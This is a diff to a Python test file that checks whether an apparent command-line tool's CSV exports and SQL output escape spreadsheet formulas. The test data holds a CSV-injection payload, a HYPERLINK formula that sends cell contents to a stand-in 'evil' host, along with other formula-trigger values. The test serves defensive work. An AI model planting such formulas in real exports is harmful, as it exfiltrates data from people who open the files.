@@ -107,7 +107,7 @@ def test_a_foreign_id_of_a_run_is_no_path(store: Store, capsys: pytest.CaptureFi
     assert localsim(["bundle", "@last", "-o", "mine.zip", "--db", str(store.path)]) == 0
 
 
-def test_a_spreadsheet_runs_no_cell_of_an_export(run: str, store: Store) -> None:
+def test_a_spreadsheet_runs_no_cell_of_an_export(run: str, store: Store, capsys: pytest.CaptureFixture[str]) -> None:
     formulas = ['=HYPERLINK("http://evil?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "plain - text"]
     with duckdb.connect(str(store.path)) as connection:
         for number, text in enumerate(formulas):
@@ -116,6 +116,11 @@ def test_a_spreadsheet_runs_no_cell_of_an_export(run: str, store: Store) -> None
     with Path("cells/turns.csv").open(newline="") as file:
         rows = [row for row in csv.DictReader(file) if int(row["turn"]) < len(formulas)]
     assert {row["text"] for row in rows} == {f"'{text}" for text in formulas[:-1]} | {formulas[-1]}
+    capsys.readouterr()
+    query = "SELECT text, -turn AS number FROM turns WHERE turn < 2"
+    assert localsim(["sql", query, "--format", "csv", "--db", str(store.path)]) == 0
+    told = capsys.readouterr().out
+    assert """"'=HYPERLINK(""http://evil?""&A1)",0""" in told and "\n+1,-1" in told, "a number is no formula"
     assert all(row["position"].replace(".", "").isdigit() for row in rows), "numbers stay numbers"
 
 
